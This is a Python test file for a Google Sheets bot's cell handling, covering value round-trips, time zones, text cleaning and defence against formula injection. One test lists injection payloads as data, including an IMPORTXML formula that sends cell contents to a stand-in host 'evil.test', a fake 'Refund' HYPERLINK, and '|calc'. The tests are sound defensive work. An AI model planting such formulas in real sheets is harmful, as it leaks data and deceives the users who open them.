"""Promises of a cell: what is written comes back as what it meant, and no text from outside can become a formula."""

import json
import re
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from enum import StrEnum
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sheets_bot.sheets.cells import (
    MOST_CHARACTERS,
    clean_text,
    extended_value,
    from_serial_at,
    from_serial_on,
    is_empty,
    key_text,
    looks_like_formula,
    read_column,
    read_value,
    same,
    to_serial,
    writer,
)

# Both halves of the world's daylight saving, none at all, half an hour of it (Lord Howe), and a skipped day (Apia).
ZONES = [
    ZoneInfo(name)
    for name in [
        "Etc/UTC", "America/New_York", "Europe/Berlin", "Asia/Kolkata", "Australia/Lord_Howe", "Pacific/Apia",
        "Pacific/Kiritimati",
    ]
]  # fmt: skip
zones = st.sampled_from(ZONES)
moments = st.datetimes(datetime(1950, 1, 1), datetime(2090, 1, 1), timezones=st.just(UTC)).map(
    lambda at: at.replace(microsecond=0)
)
texts = st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cn"]), min_size=1).map(clean_text)
UNITS = {"utf-16": lambda text: len(text.encode("utf-16-le", errors="surrogatepass")) // 2}


def carried(content):
    """Return a content as it arrives at Google and is given back: through JSON, by the values call."""
    value = json.loads(json.dumps(extended_value(content), allow_nan=False).encode("utf-8"))
    return next(iter(value.get("userEnteredValue", {"": ""}).values()))


def there_and_back(type_, value, zone=ZONES[0]):
    content = writer(type_, zone)(value)
    back = carried(content)
    assert same(back, content), "the next run would write this cell again"
    return read_value(type_, back, zone)


@settings(deadline=None)
@given(texts, st.sampled_from(["text", "longtext", "choice"]), zones)
def test_any_text_comes_back_as_it_was(text, type_, zone):
    assert there_and_back(type_, text, zone) == text


@settings(deadline=None)
@given(st.integers(-(2**53), 2**53))
def test_any_whole_number_comes_back_as_it_was(number):
    assert there_and_back("integer", number) == number


@settings(deadline=None)
@given(
    st.decimals(allow_nan=False, allow_infinity=False, places=2, min_value=-(10**11), max_value=10**11),
    st.sampled_from(["money", "number", "percent"]),
)
def test_any_amount_comes_back_to_the_cent(amount, type_):
    assert there_and_back(type_, amount) == amount


@settings(deadline=None)
@given(st.booleans() | st.none())
def test_a_tick_comes_back_as_it_was(tick):
    assert there_and_back("checkbox", tick) is tick


@settings(deadline=None)
@given(st.dates(date(1900, 1, 1), date(9999, 12, 31)), zones)
def test_any_date_comes_back_in_every_zone(day, zone):
    assert there_and_back("date", day, zone) == day


@settings(deadline=None, max_examples=300)
@given(moments, zones)
def test_any_instant_comes_back_but_in_the_hour_that_the_clock_repeats(moment, zone):
    back = there_and_back("datetime", moment, zone)

    assert back == moment
    assert back.tzinfo is UTC


def test_a_number_of_which_nobody_could_write_out_the_digits_stays_the_text_that_it_is():
    """Written out, it would stall whoever reads the cell."""
    for text in ("1E99999", "1e9999999", "-3E400", "1E-99999"):
        assert read_value("integer", text, ZONES[0]) == text
    assert read_value("integer", "12", ZONES[0]) == 12
    assert read_value("number", "0.000001", ZONES[0]) == Decimal("0.000001")


@pytest.mark.parametrize("type_", ["text", "choice", "integer", "money", "checkbox", "date", "datetime"])
def test_nothing_is_an_empty_cell_and_comes_back_as_nothing(type_):
    assert extended_value(writer(type_, ZONES[0])(None)) == {}
    assert there_and_back(type_, None) is None


@pytest.mark.parametrize(
    ("zone", "shown", "moment"),
    [
        ("America/New_York", "2026-03-08 01:59:59", datetime(2026, 3, 8, 6, 59, 59, tzinfo=UTC)),
        ("America/New_York", "2026-03-08 03:00:00", datetime(2026, 3, 8, 7, 0, tzinfo=UTC)),
        ("America/New_York", "2026-11-01 01:30:00", datetime(2026, 11, 1, 5, 30, tzinfo=UTC)),
        ("America/New_York", "2026-11-01 01:30:00", datetime(2026, 11, 1, 6, 30, tzinfo=UTC)),
        ("Europe/Berlin", "2026-11-22 15:03:07", datetime(2026, 11, 22, 14, 3, 7, 400_000, tzinfo=UTC)),
    ],
)
def test_an_instant_stands_in_the_cell_as_the_clock_on_the_wall_shows_it(zone, shown, moment):
    """The serial number of the wall clock, since Google formats it without a zone."""
    serial = to_serial(moment, ZoneInfo(zone))

    days, rest = divmod(round(serial * 86_400), 86_400)
    assert f"{date(1899, 12, 30) + timedelta(days=days)} {timedelta(seconds=rest)!s:0>8}" == shown


def test_a_date_is_the_number_that_google_documents():
    assert to_serial(date(1900, 1, 1), ZONES[0]) == 2
    assert to_serial(date(1900, 2, 1), ZONES[0]) == 33
    assert to_serial(datetime(1900, 1, 1, 15, tzinfo=UTC), ZONES[0]) == 2.625
    assert from_serial_on(33.9) == date(1900, 2, 1)
    assert from_serial_at(2.625, ZONES[0]) == datetime(1900, 1, 1, 15, tzinfo=UTC)


def test_an_instant_is_the_same_whatever_zone_it_is_given_in():
    moment = datetime(2026, 11, 22, 14, 3, tzinfo=UTC)
    write = writer("datetime", ZONES[1])

    assert write(moment) == write(moment.astimezone(timezone(timedelta(hours=9))))


@pytest.mark.parametrize(
    ("type_", "value"),
    [
        ("text", 7), ("text", date(2026, 1, 1)), ("choice", True), ("integer", "7"), ("money", True), ("money", 1.5),
        ("money", Decimal("NaN")), ("number", Decimal("Infinity")), ("checkbox", "yes"), ("checkbox", 1),
        ("date", "2026-01-01"), ("datetime", 45000), ("datetime", datetime(2026, 1, 1)),
    ],
)  # fmt: skip
def test_a_value_that_does_not_fit_its_column_is_our_fault_and_says_so(type_, value):
    with pytest.raises(TypeError):
        writer(type_, ZONES[0])(value)


# -- text from outside ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '=IMPORTXML("https://evil.test/"&A1,"//a")', '=HYPERLINK("https://evil.test","Refund")', "=1+1", "=", "==",
        "+1 555 0100", "-5", "@SUM(A1)", "\t=1+1", "'=1+1", "1/2", "007", "1e5", "TRUE", "2026-11-22", "$100.15",
        "{=A1}", "|calc",
    ],
)  # fmt: skip
def test_text_from_outside_stays_the_text_it_is(text):
    """No parsing, no formula: typed as a string, whatever it looks like."""
    for type_ in ("text", "longtext", "choice"):
        content = writer(type_, ZONES[0])(text)

        assert extended_value(content) == {"userEnteredValue": {"stringValue": text}}
        assert there_and_back(type_, text) == text


@settings(deadline=None)
@given(st.text(st.characters(), min_size=1))
def test_text_from_outside_is_never_written_as_anything_but_text(text):
    content = writer("text", ZONES[0])(text)

    assert extended_value(content) == {"userEnteredValue": {"stringValue": content}}
    json.dumps(content).encode("utf-8")
    content.encode("utf-8")


def test_only_what_a_person_had_is_put_back_as_a_formula():
    assert extended_value("=A1*2", formula=True) == {"userEnteredValue": {"formulaValue": "=A1*2"}}
    assert extended_value("=", formula=True) == {"userEnteredValue": {"stringValue": "="}}
    assert extended_value("A1*2", formula=True) == {"userEnteredValue": {"stringValue": "A1*2"}}


@settings(deadline=None)
@given(st.text(st.characters(), max_size=60))
def test_what_a_cell_cannot_carry_is_marked_and_the_rest_stays(text):
    cleaned = clean_text(text)

    lines = re.sub("\r\n?", "\n", text)
    assert len(cleaned) == len(lines)
    for before, after in zip(lines, cleaned, strict=True):
        assert after in {before, "\ufffd"}
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]", cleaned)
    assert clean_text(cleaned) == cleaned


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("one\r\ntwo\rthree\n", "one\ntwo\nthree\n"),
        ("a\tb", "a\tb"),
        ("a\x00b\x1bc\x7fd\x92e", "a\ufffdb\ufffdc\ufffdd\ufffde"),
        ("half of an emoji \ud83d", "half of an emoji \ufffd"),
        ("\udc00\ud800", "\ufffd\ufffd"),
        (
            "family \U0001f468\u200d\U0001f469\u200d\U0001f467",
            "family \U0001f468\u200d\U0001f469\u200d\U0001f467",
        ),
        ("שלום \u202eabc", "שלום \u202eabc"),
    ],
)
def test_control_characters_and_lone_surrogates_are_marked(text, cleaned):
    assert clean_text(text) == cleaned


@pytest.mark.parametrize("unit", ["x", "é", "漢", "\U0001f600"])
@pytest.mark.parametrize("beyond", [-1, 0, 1, 2, 30_000])
def test_a_cell_holds_fifty_thousand_characters_as_utf16_counts_them(unit, beyond):
    width = UNITS["utf-16"](unit)
    text = unit * ((MOST_CHARACTERS + beyond) // width) + "x" * ((MOST_CHARACTERS + beyond) % width)

    cleaned = clean_text(text)

    assert UNITS["utf-16"](cleaned) <= MOST_CHARACTERS
    if beyond <= 0:
        assert cleaned == text
    else:
        kept = cleaned.removesuffix("… [cut: longer than a cell can hold]")
        assert text.startswith(kept)
        assert UNITS["utf-16"](cleaned) > MOST_CHARACTERS - width
        assert clean_text(cleaned) == cleaned


def test_an_emoji_is_never_cut_in_half():
    for shift in range(3):
        cleaned = clean_text("x" * shift + "\U0001f600" * MOST_CHARACTERS)

        assert "\ufffd" not in cleaned
        cleaned.encode("utf-8")


# -- what people type ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("type_", "typed", "meaning"),
    [
        ("text", 7, "7"), ("text", 7.0, "7"), ("text", 7.5, "7.5"), ("text", True, True), ("choice", " Hold", " Hold"),
        ("integer", 7.0, 7), ("integer", 7.5, Decimal("7.5")), ("integer", "12", Decimal(12)), ("integer", "soon", "soon"),
        ("money", "12.50", Decimal("12.50")), ("money", "1,50", "1,50"), ("money", 0.1, Decimal("0.1")),
        ("money", "NaN", "NaN"), ("money", "Infinity", "Infinity"), ("money", "", None),
        ("date", "next week", "next week"), ("date", 46348, date(2026, 11, 22)), ("date", 46348.75, date(2026, 11, 22)),
        ("date", -1, Decimal(-1)), ("date", 2_958_465, date(9999, 12, 31)), ("date", 2_958_466, Decimal(2_958_466)),
        ("datetime", 1e300, Decimal("1e300")), ("datetime", True, True), ("checkbox", "yes", "yes"),
    ],
)  # fmt: skip
def test_what_a_person_typed_is_read_by_type_or_as_it_stands(type_, typed, meaning):
    value = read_value(type_, typed, ZONES[1])

    assert value == meaning
    assert type(value) is type(meaning)


@settings(deadline=None)
@given(
    st.sampled_from(
        ["text", "integer", "number", "money", "percent", "checkbox", "date", "datetime", "choice"]
    ),
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    zones,
)
def test_nothing_that_a_person_types_stops_the_reading(type_, typed, zone):
    value = read_value(type_, typed, zone)

    assert (value is None) == is_empty(typed)


@pytest.mark.parametrize("serial", [2_958_464.999, 2_958_465, 2_958_465.9, 2_958_465.9999999, 2_958_466])
def test_the_end_of_all_dates_can_be_read_in_every_zone(serial):
    """People write 31 December 9999 for 'never'; in UTC its evening is in the year 10000."""
    for zone in ZONES:
        read_value("datetime", serial, zone)


# -- the same, and keys --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("have", "want"),
    [
        (None, ""), ("", None), ("a", "a"), (7, 7.0), (0.1 + 0.2, 0.3), (46348.5, 46348.5 + 0.4 / 86_400), (True, True),
        ("'=1+1", "=1+1"), ("late", StrEnum("Flag", {"LATE": "late"}).LATE),
    ],
)  # fmt: skip
def test_contents_that_mean_the_same_are_not_written_again(have, want):
    assert same(have, want)


@pytest.mark.parametrize(
    ("have", "want"),
    [
        (None, 0), ("", False), (None, False), (False, 0), (True, 1), ("7", 7), (7, "7"), ("TRUE", True), ("a", "A"),
        ("a ", "a"), (46348.5, 46348.5 + 1 / 86_400), (12.34, 12.35), ("=1+1", "'=1+1"), ("'a", "a"), ("0", ""),
    ],
)  # fmt: skip
def test_contents_that_differ_are_told_apart(have, want):
    assert not same(have, want)


@settings(deadline=None)
@given(moments, zones, st.integers(1, 10**6))
def test_a_second_is_a_difference_and_less_is_none(moment, zone, seconds):
    content = to_serial(moment, zone)

    assert same(content, to_serial(moment.replace(microsecond=300_000), zone))
    assert not same(content, content + seconds / 86_400)


@pytest.mark.parametrize(
    ("content", "key"),
    [
        (None, ""), ("", ""), ("  ", ""), ("PP-D-1", "PP-D-1"), (" PP-D-1 ", "PP-D-1"), ("007", "007"), (7, "7"), (7.0, "7"),
        (7.5, "7.5"), (1e15, "1000000000000000"), ("7.0", "7.0"),
    ],
)  # fmt: skip
def test_a_key_is_text_however_it_was_typed(content, key):
    assert key_text(content) == key


@pytest.mark.parametrize(
    ("content", "answer"),
    [("=A1", True), ("==", True), ("=", False), ("a=1", False), ("'=1", False), (7, False), (None, False)],
)
def test_a_content_that_may_be_a_formula_is_known(content, answer):
    assert looks_like_formula(content) is answer


@given(
    st.sampled_from(
        [
            "text",
            "longtext",
            "choice",
            "date",
            "datetime",
            "integer",
            "number",
            "money",
            "percent",
            "checkbox",
        ]
    ),
    st.lists(
        st.none()
        | st.booleans()
        | st.integers(-5, 3_000_000)
        | st.floats(-5, 3_000_000, allow_nan=False)
        | st.sampled_from(["", " ", "12", "12.50", "x", "=1+1", "2026-11-24"])
    ),
    zones,
)
def test_a_column_reads_as_its_cells_do(type_, contents, zone):
    column = read_column(type_, contents, zone)

    cells = [read_value(type_, content, zone) for content in contents]
    assert [(type(value), value) for value in column] == [(type(value), value) for value in cells]
